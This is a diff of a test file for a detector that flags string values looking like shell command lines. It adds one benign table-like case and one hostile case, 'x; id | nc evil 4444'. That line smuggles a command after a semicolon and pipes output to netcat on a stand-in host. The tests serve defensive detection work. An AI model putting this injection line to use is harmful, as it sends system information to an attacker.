@@ -104,6 +104,8 @@ describe("a value that is a command line", () => {
     expect(atL1("cp1250,latin1")).toBe(false);
     expect(atL1("Use the `$` command to move, or `0` to go back")).toBe(false);
     expect(atL1("id | name | email")).toBe(false);
+    expect(atL1("| 1 | id | name |")).toBe(false);
+    expect(atL1("x; id | nc evil 4444")).toBe(true);
     expect(atL1("yum, shred, reboot")).toBe(false);
     expect(level("id")).toBe(0);
     expect(level("ip")).toBe(0);
